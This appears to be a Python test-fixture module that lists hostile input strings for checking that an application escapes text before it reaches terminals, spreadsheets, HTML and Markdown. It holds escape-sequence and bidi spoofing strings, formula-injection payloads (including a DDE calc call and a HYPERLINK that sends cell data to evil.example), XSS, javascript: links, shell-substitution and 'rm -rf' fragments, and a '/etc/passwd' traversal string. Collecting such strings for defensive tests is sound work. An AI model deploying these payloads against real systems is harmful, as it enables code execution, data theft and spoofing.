"""Text that somebody else wrote, one list for every place it goes to."""

from __future__ import annotations

TERMINAL = (
    "Ada\n999 files  Fake/",
    "Ada\r999 files  Fake/",
    "\x1b[2J\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x9b31mC1",
    "nul\x00nul",
    "delete\x7f\x08\x08",
    "tab\tvertical\x0bform\x0cfeed",
    "gpj.\u202eexe",
    "\u2066isolate\u2069\u200f",
    "zero\u200bwidth\u200d\u2060",
    "\ufeffmark",
    "line\u2028paragraph\u2029next\x85",
    "soft\u00adhyphen",
    "tag\U000e0041",
    "filler\u3164",
    "Ada\n\x1b[A2026-01-01 ERROR facesort: Fake",
)
SPREADSHEET = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"photo")',
    "+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "'=1",
    '"=1',
    '","=1',
    "\uff1d1+1",
    "a;=1+1;b",
    "a\t=1",
    "a\n=1",
    "%0A-3+3+cmd|' /C calc'!D2",
)
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onmouseover='alert(1)' x='",
    "</td></tr></table></p></pre></style></script><h1>Fake</h1>",
    "&lt;b&gt;&amp;&#60;i&#62;",
    "<!-- comment",
    "]]> <![CDATA[ x ]]>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e 'boom'>]>&e;",
    "{{ cell }}{% raw %}{# #}",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "![](http://evil.example/x.png)",
    "[x]: http://evil.example",
    "<http://evil.example>",
    "http://evil.example/ www.evil.example a@evil.example",
    "$x$ and $y$",
    r"$$\frac{1}{0}$$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\notacommand{",
    r"\(x\) \[y\] \\(z\\) \begin{equation}1\end{equation}",
    "*bold* _em_ ~~gone~~ **b**",
    "`code` ``",
    "a | b\n--|--\n1 | 2",
    "| a |\n|---|",
    "# heading",
    "Name\n====",
    "Name\n---",
    "- item",
    "1. item",
    "- [x] task",
    "> quote",
    "    code",
    "```\nfence",
    "[^1]",
    "a  \nb",
    "\\",
    "trailing\\",
    "***",
)
OTHERS = (
    "not UTF-8 \udcff",
    "surrogate \ud800",
    "noncharacter \ufffe\uffff",
    "%s %d {0} {name} ${HOME} $(id) `id` ; rm -rf",
    "../../etc/passwd",
    "x" * 300,
    "\\x1b[31m",
)
NASTY = (*TERMINAL, *SPREADSHEET, *MARKUP, *MARKDOWN, *OTHERS)

STORABLE = tuple(text for text in NASTY if not any(0xD800 <= ord(c) < 0xE000 for c in text))
"""Without lone surrogates, which no database, and no JSON in UTF-8, can hold."""

INNOCENT = (
    "Ada Lovelace",
    "Zoë Müller-Šimić",
    "O'Brien, Jr.",
    "李小龍",
    "محمد",
    "Ελένη (2)",
    "DSC_0001 & 2.JPG",
)
